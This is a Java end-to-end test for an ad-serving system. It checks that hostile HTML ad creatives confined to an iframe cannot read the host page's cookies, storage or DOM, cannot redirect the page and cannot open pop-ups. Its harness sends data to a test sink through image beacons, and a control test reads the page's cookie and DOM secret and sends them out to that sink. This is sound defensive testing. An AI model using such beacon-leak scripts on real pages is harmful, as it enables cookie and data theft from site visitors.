package dev.narrowcast.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Dialog;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import io.restassured.RestAssured;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * HTML creatives that try to read the page, to lead its visitor away or to forge a click, each in the way that its name
 * says. Every one reports that it ran, so that none passes because it did nothing.
 */
class HostileSiteTagIT {
    private static final double ACTS_WITHIN_MILLIS = 700;
    private static final int AT_ONCE = 8;
    private static final Duration SOON = Duration.ofSeconds(20);

    private static Browsers browsers;
    private static OtherSite site;
    private static Lantern.Website website;
    private static final String RUN = UUID.randomUUID().toString().substring(0, 8);
    private static final List<String> HONEST = List.of("honest-link", "honest-message");
    private static final Map<String, String> TECHNIQUES = new LinkedHashMap<>();

    private final List<String> harm = new ArrayList<>();

    @BeforeAll
    static void upload() throws IOException {
        browsers = Browsers.launchOrSkip();
        site = new OtherSite();
        website = Lantern.website(site.origin());
        readTechniques();
        String campaign = Lantern.campaign("Hostile " + RUN);
        TECHNIQUES.forEach((name, script) -> Lantern.lineItem(
                campaign, targeting(name), Lantern.htmlCreative(name + "-" + RUN, html(name, script))));
        Lantern.lineItem(
                campaign,
                targeting("honest-link"),
                Lantern.htmlCreative("honest-link-" + RUN, "<a href=\"{{clickUrl}}\" style=\"font-size:60px\">Ad</a>"));
        Lantern.lineItem(campaign, targeting("honest-message"), Lantern.htmlCreative("honest-message-" + RUN, """
                <button style="width:300px;height:250px" onclick="parent.postMessage('narrowcast:click', '*')">Ad</button>
                """));
        TECHNIQUES.keySet().forEach(HostileSiteTagIT::awaitServed);
        HONEST.forEach(HostileSiteTagIT::awaitServed);
    }

    private static void readTechniques() throws IOException {
        try (InputStream in = HostileSiteTagIT.class.getResourceAsStream("/hostile-creatives.txt")) {
            for (String block : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("(?m)^== ")) {
                int line = block.indexOf('\n');
                if (line > 0) {
                    TECHNIQUES.put(
                            block.substring(0, line), block.substring(line + 1).strip());
                }
            }
        }
    }

    private static String targeting(String name) {
        return "{\"all\":[{\"site\":{\"ids\":[\"%s\"]}},{\"keyword\":{\"terms\":[\"%s-%s\"],\"match\":\"EXACT\",\"field\":\"PAGE\"}}]}"
                .formatted(website.id(), name, RUN);
    }

    private static String html(String name, String script) {
        return """
                <!doctype html><html><head></head><body><a id="ad" href="{{clickUrl}}">ad</a>
                <script>
                var SINK = '%s', PAGE = '%s', LEAK = SINK + '?%s=leak:', GO = SINK + '/away?%s=away:';
                function tell(what) { new Image().src = SINK + '?%s=' + encodeURIComponent(String(what).slice(0, 300)) }
                function leak(what) { tell('leak:' + what) }
                addEventListener('unhandledrejection', function (e) { e.preventDefault() });
                addEventListener('load', function () { tell('ran'); setTimeout(function () { %s }, 0) });
                </script></body></html>
                """.formatted(site.sinkUrl(), site.origin() + "/page-" + name, name, name, name, script);
    }

    @AfterAll
    static void close() {
        if (browsers != null) {
            browsers.close();
            site.close();
        }
    }

    @Test
    void hostileCreatives_readNothing_leadNowhere_openNothing() {
        assertThat(TECHNIQUES).hasSizeGreaterThanOrEqualTo(50);
        try (BrowserContext context = browsers.newContext()) {
            List<String> names = List.copyOf(TECHNIQUES.keySet());
            for (int from = 0; from < names.size(); from += AT_ONCE) {
                visit(context, names.subList(from, Math.min(from + AT_ONCE, names.size())));
            }
        }
        List<String> received = site.received();
        assertThat(received).filteredOn(query -> query.contains("=leak:")).isEmpty();
        assertThat(harm).isEmpty();
        assertThat(TECHNIQUES.keySet()).allSatisfy(name -> assertThat(received).contains(name + "=ran"));
        System.out.printf(
                "%d hostile creatives ran: 0 reads, 0 top navigations, 0 pop-ups, 0 downloads, 0 dialogs%n",
                TECHNIQUES.size());
    }

    /** One page of a website with one of the creatives. */
    private final class Visit {
        private final String name;
        private final Page page;
        private final String url;
        private final List<String> moves = new ArrayList<>();

        Visit(BrowserContext context, String name) {
            this.name = name;
            page = context.newPage();
            page.onPopup(popup -> harm.add(name + " opened " + popup.url()));
            page.onDownload(download -> harm.add(name + " downloaded"));
            page.onDialog(dialog -> dialog(name, dialog));
            page.onFrameNavigated(moved -> {
                if (moved.parentFrame() == null) {
                    moves.add(moved.url());
                }
            });
            url = open(page, name);
        }

        boolean hasRun() {
            page.waitForTimeout(20);
            return site.received().contains(name + "=ran");
        }

        void leave() {
            if (!moves.equals(List.of(url))) {
                harm.add(name + " led the page to " + moves);
            }
            String after = String.valueOf(page.evaluate("""
                () => [location.href, document.title, document.cookie, JSON.stringify(localStorage),
                       document.getElementById('secret').textContent, window.secret].join(' ')"""));
            String expected = "%s page-%s secret=cookie-5ecret {\"secret\":\"store-5ecret\"} dom-5ecret global-5ecret"
                    .formatted(url, name);
            if (!after.equals(expected)) {
                harm.add(name + " changed the page: " + after);
            }
            page.close();
        }
    }

    private void visit(BrowserContext context, List<String> names) {
        List<Visit> visits =
                names.stream().map(name -> new Visit(context, name)).toList();
        visits.forEach(visit -> await(visit.name).atMost(SOON).until(visit::hasRun));
        visits.getLast().page.waitForTimeout(ACTS_WITHIN_MILLIS);
        visits.forEach(Visit::leave);
    }

    private static String open(Page page, String name) {
        String path = "/page-" + name;
        site.page(path, "", publisherPage(name));
        page.navigate(site.origin() + path);
        return site.origin() + path;
    }

    /** A line item reaches the bidders in a moment. */
    private static void awaitServed(String name) {
        await(name)
                .atMost(SOON)
                .until(() -> RestAssured.given()
                                .baseUri(Stack.baseUrl())
                                .header("Origin", site.origin())
                                .contentType("application/json")
                                .body("""
                                {"placements":[{"id":"a","placementId":"%s"}],"page":{"url":"%s","keywords":["%s-%s"]}}
                                """.formatted(website.rectangle(), site.origin(), name, RUN))
                                .post("/v1/ad-select?key=" + website.key())
                                .jsonPath()
                                .getString("decisions.a[0].lineItemId")
                        != null);
    }

    private void dialog(String name, Dialog dialog) {
        harm.add(name + " showed a " + dialog.type());
        dialog.dismiss();
    }

    private static String publisherPage(String name) {
        return """
                <!doctype html><html lang="en"><title>page-%s</title><p id="secret">dom-5ecret</p>
                <script>
                document.cookie = 'secret=cookie-5ecret'; localStorage.setItem('secret', 'store-5ecret');
                var secret = 'global-5ecret';
                </script>
                <script async src="%s/tag.js" data-site-key="%s" data-keywords="%s-%s"></script>
                <div data-ad-placement="%s" data-size="300x250"></div>
                """.formatted(name, Stack.baseUrl(), website.key(), name, RUN, website.rectangle());
    }

    @Test
    void sameScriptsWithoutTheFrame_areCaught() {
        try (BrowserContext context = browsers.newContext()) {
            Page page = context.newPage();
            site.page(
                    "/page-control",
                    "",
                    """
                    <!doctype html><title>control</title><p id="secret">dom-5ecret</p>
                    <script>document.cookie = 'secret=cookie-5ecret'</script>
                    """ + html("control", "leak(top.document.getElementById('secret').textContent + document.cookie)"));
            page.navigate(site.origin() + "/page-control");
            await().atMost(SOON).until(() -> {
                page.waitForTimeout(50);
                return site.received().stream()
                        .anyMatch(query ->
                                query.startsWith("control=leak:dom-5ecret") && query.contains("cookie-5ecret"));
            });
        }
    }

    @Test
    void realClick_opensTheLandingPageInATabThatKnowsNothingOfThisOne() {
        try (BrowserContext context = browsers.newContext()) {
            for (String name : HONEST) {
                Page page = context.newPage();
                open(page, name);
                page.frameLocator("iframe").getByText("Ad").waitFor();
                Page landing = context.waitForPage(
                        () -> page.locator("iframe").click(new Locator.ClickOptions().setPosition(40, 60)));
                landing.waitForURL("**/demo/shop/?creative=" + name + "-" + RUN);
                assertThat(landing.evaluate("window.opener")).isNull();
                assertThat(page.url()).endsWith("/page-" + name);
                landing.close();
                page.close();
            }
        }
    }
}
